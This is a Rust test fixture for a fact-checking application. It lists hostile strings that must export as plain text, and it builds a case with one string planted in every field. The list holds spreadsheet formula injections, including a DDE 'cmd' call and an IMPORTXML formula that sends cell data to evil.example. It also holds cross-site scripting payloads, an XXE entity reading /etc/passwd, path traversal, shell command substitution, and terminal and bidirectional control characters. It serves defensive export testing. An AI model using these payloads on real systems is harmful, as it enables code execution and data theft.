//! Hostile texts, which an imported story may contain and which must be plain text in every export.

use std::sync::Arc;

use factdesk::case::*;

/// All hostile texts.
pub const PAYLOADS: &[&str] = &[
    // Formulas that spreadsheets accept, also after blanks, quotes and separators.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example\";\"click\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\";A1);\"//a\")",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\"=1+1\"",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1+cmd",
    "＠SUM(1)",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\";=1+1",
    "\";=1+1;\"",
    "\",=1+1,\"",
    "%0A=1+1",
    "=\u{200b}1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "- said the mayor",
    "+380 44 123",
    "-",
    "=",
    // HTML markup.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><b>x</b>",
    "'><b>x</b>",
    "<!-- x",
    "--> x",
    "<![CDATA[ x ]]>",
    "]]>",
    "</title><h1>x</h1>",
    "</style><style>*{display:none}",
    "</textarea>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<b>x\">",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&amp;lt;",
    "&copy;",
    "&",
    "x onmouseover=alert(1) y",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "`onmouseover=alert(1)`",
    "<b",
    "<",
    "</p></article>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p>",
    "<p class=\"claim\">",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE html>",
    "<w:t>x</w:t>",
    "</w:t></w:r><w:r><w:t>",
    "<w:fldSimple w:instr=\"DDEAUTO\"/>",
    "&xxe;",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    // Addresses that run something.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example\\share",
    "https://evil.example/\"onclick=\"alert(1)",
    "https://evil.example/'x",
    "https://evil.example/<b>",
    "https://evil.example/ x",
    "https://evil.example/)x",
    "https://user:pw@evil.example/",
    "https://evil.example/\u{202e}gpj.exe",
    "https://раураl.example/",
    "http://[::1]/",
    "https://evil.example/a_b_c*d*",
    "https://evil.example/?a=1&b=2#c",
    "www.evil.example",
    "mailto:a@evil.example",
    "a@evil.example",
    "xmpp:a@evil.example",
    "ftp://evil.example",
    "tel:+1",
    "HTTPS://EVIL.EXAMPLE",
    // Markdown of every dialect.
    "# x",
    "###### x",
    "#hashtag",
    "* x",
    "- x",
    "+ x",
    "1. x",
    "1) x",
    "123456789. x",
    "> x",
    ">> x",
    "    x",
    "```",
    "```js",
    "~~~",
    "`x`",
    "``x``",
    "**x**",
    "__x__",
    "*x*",
    "_x_",
    "***x***",
    "~~x~~",
    "~x~",
    "^x^",
    "==x==",
    "---",
    "***",
    "___",
    "===",
    "- - -",
    "* * *",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[x][1]",
    "[1]: https://evil.example",
    "[^1]",
    "[^1]: x",
    "[x]",
    "[ ] x",
    "[x] x",
    "- [ ] x",
    "[[x]]",
    "[[x|y]]",
    "<https://evil.example>",
    "<a@evil.example>",
    "| a | b |",
    "|---|---|",
    "a | b",
    "a \\| b",
    "\\",
    "\\\\",
    "x\\",
    "x  ",
    "x\\\ny",
    "a\n\nb",
    "a\n# b",
    "a\n===",
    "a\n---",
    "a\n> b",
    "a\n- b",
    "a\n```\nb",
    "a\n| b |\n|---|",
    ":smile:",
    ": x",
    "x\n: y",
    "{#id}",
    "x {#id .class}",
    "$x$",
    "$$x$$",
    "@user",
    "#123",
    "GH-1",
    "!x",
    "![",
    "](",
    "](javascript:alert(1))",
    "*[HTML]: x",
    "+++",
    "%%%",
    "::: x",
    "> [!WARNING]",
    "[CONFIRMED]",
    "[SAID: CONFIRMED]",
    "] [CONFIRMED] [",
    "x [OPEN] y",
    "[[CONFIRMED]]",
    "[",
    "]",
    "[]",
    "][",
    // Characters that hide, reverse or control text.
    "\u{0}",
    "a\u{0}b",
    "\u{1}\u{2}\u{3}",
    "\u{7}",
    "\u{8}\u{8}\u{8}",
    "\u{b}\u{c}",
    "\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}",
    "\u{1b}[2J",
    "\u{9b}31m",
    "\u{9d}0;t\u{9c}",
    "\u{1b}Pq\u{1b}\\",
    "\u{7f}",
    "\u{85}",
    "a\rb",
    "a\r\nb",
    "a\tb",
    "\u{2028}",
    "\u{2029}",
    "\u{202e}abc",
    "\u{202d}abc",
    "\u{202a}abc\u{202c}",
    "\u{2066}abc\u{2069}",
    "\u{2067}abc",
    "\u{200e}\u{200f}",
    "\u{61c}",
    "\u{200b}",
    "a\u{200b}b",
    "\u{feff}",
    "\u{e0041}\u{e0042}",
    "🏴\u{e0067}\u{e0062}\u{e007f}",
    "a\u{301}\u{301}\u{301}",
    "\u{301}a",
    "👩\u{200d}👩\u{200d}👧",
    "\u{202e}",
    "\u{fffd}",
    "\u{fffe}",
    "\u{10ffff}",
    "ﷺ",
    "ｗｉｄｅ",
    "\u{ad}",
    "a\u{2060}b",
    "\u{180e}",
    // Quotes and records of other formats, and file names.
    "\"",
    "'",
    "\"\"",
    "\\\"",
    "\"), (id: \"",
    "\",\"verdict\":\"confirmed",
    "\"}],\"x\":[{\"",
    "{\"a\":1}",
    "(a: 1)",
    "Some(\"x\")",
    "None",
    "\\u{202e}",
    "\\u202e",
    "\\n",
    "r#\"x\"#",
    "//x",
    "/* x */",
    "null",
    "true",
    "1e999",
    "NaN",
    "a,b",
    "a;b",
    "\"a\",\"b\"",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\x",
    "CON",
    "a/b",
    "..",
    ".",
    "-rf",
    "--force",
    "$(id)",
    "`id`",
    "${x}",
    "%s%n",
    "{}",
    "{0}",
    "x{}y",
    "<<<<<<< ours",
    "=======",
    "@context",
    "@type",
    "__proto__",
    "|",
    "||",
    "a|b",
    "“x”",
    "«x»",
    "x”",
    "„x",
];

/// A case in which every text from a person, a page or a file is this one.
#[allow(clippy::too_many_lines, reason = "a line for each field")]
pub fn planted(payload: &str) -> Case {
    let words = || payload.to_owned();
    let day = || "2024-03-23".parse().ok();
    let mut mint = IdGen::seeded(7);
    let mut case = Case::new(mint.id(|_| false), words());
    case.story_date = day();
    let parts = [Part::Title, Part::Body, Part::Heading, Part::Caption];
    let paragraphs = parts.map(|part| Paragraph::new(part, words())).to_vec();
    let mut draft = Draft::new(words(), paragraphs);
    for field in [
        &mut draft.url,
        &mut draft.author,
        &mut draft.publisher,
        &mut draft.archived,
    ] {
        *field = words();
    }
    (draft.published, draft.seen) = (day(), day());
    case.draft = Some(Arc::new(draft));
    let ids: Vec<SourceId> = (0..4).map(|_| mint.id(|_| false)).collect();
    // The last two rely on each other in a circle.
    let relies_on = [vec![], vec![ids[0]], vec![ids[3]], vec![ids[2]]];
    case.sources = ids
        .iter()
        .zip(relies_on)
        .map(|(id, relies_on)| {
            let mut source = Source::new(*id, words());
            (source.url, source.archived, source.note) = (words(), words(), words());
            source.accessed = day();
            source.relies_on = relies_on;
            Arc::new(source)
        })
        .collect();
    // One anchored claim for each paragraph, one free-standing, one unanchored.
    let places = (0..6).map(|place| {
        let end = if place == 5 {
            payload.len() + 1
        } else {
            payload.len()
        };
        (place != 4).then_some(Span {
            paragraph: place % 4,
            start: 0,
            end,
        })
    });
    let verdicts = [
        (Some(Verdict::Confirmed), Reason::WithContext),
        (Some(Verdict::Disputed), Reason::Contradicted),
        (Some(Verdict::Unverified), Reason::Insufficient),
        (None, Reason::Opinion),
    ];
    let spans: Vec<Option<Span>> = places.collect();
    let claims: Vec<ClaimId> = spans.iter().map(|_| mint.id(|_| false)).collect();
    case.claims = spans
        .iter()
        .enumerate()
        .map(|(place, span)| {
            let mut claim = Claim::new(claims[place], *span, words());
            (claim.wording, claim.place) = (words(), words());
            claim.added = Some(time(0));
            claim.attribution = Some(Attribution {
                cue: words(),
                hedge: words(),
                chain: vec![ids[1], ids[0]],
                suggested: place == 1,
                candidates: Vec::new(),
            });
            claim.links = vec![Link {
                to: claims[(place + 1) % 6],
                kind: LinkKind::Contradicts,
                by: words(),
                at: time(1),
            }];
            claim.waivers = vec![Waiver {
                standard: "open-claim".to_owned(),
                by: words(),
                at: time(2),
                reason: words(),
            }];
            let (verdict, reason) = verdicts[place % 4];
            for (turn, question) in Question::ALL.iter().enumerate() {
                claim.evidence.push(Evidence {
                    id: mint.id(|_| false),
                    by: words(),
                    at: time(3),
                    source: ids[0],
                    question: *question,
                    stance: Stance::Supports,
                    nature: Nature::Primary,
                    credibility: Credibility::try_from(3).ok(),
                    quote: words(),
                    locator: words(),
                    url: words(),
                    accessed: day(),
                    archived: words(),
                    file: Some(File {
                        name: words(),
                        sha256: Sha256::over([b"x".as_slice()]),
                    }),
                    note: words(),
                    suggested: false,
                });
                let ruling = |of, turn: i64| Ruling {
                    at: time(turn),
                    by: words(),
                    question: *question,
                    verdict,
                    reason: Some(reason),
                    of,
                    note: words(),
                    decides: false,
                };
                let turn = i64::try_from(turn).unwrap();
                claim.rulings.push(ruling(Of::new([0; 6]), 10 + turn));
                claim
                    .rulings
                    .push(ruling(claim.subject_hash(*question), 20 + turn));
            }
            Arc::new(claim)
        })
        .collect();
    case
}

fn time(minute: i64) -> Timestamp {
    let start: Timestamp = "2026-11-23T10:00:00.000Z".parse().unwrap();
    start.later(minute * 60_000)
}
